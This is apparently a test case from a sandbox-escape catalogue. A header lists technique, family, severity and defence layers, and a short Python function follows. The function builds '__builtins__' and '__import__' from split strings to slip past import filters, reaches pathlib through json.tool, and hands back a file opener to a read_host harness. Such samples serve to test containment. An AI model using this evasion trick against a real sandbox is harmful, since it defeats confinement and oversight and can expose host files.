# technique: the function beneath import statements, called as C code calls it
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    table = globals()["__built" + "ins__"]
    table = table if isinstance(table, dict) else vars(table)
    table["__imp" + "ort__"]("json.tool", None, None, ["Path"])
    import json
    return lambda path: json.tool.Path(path).open()

read_host(trick)
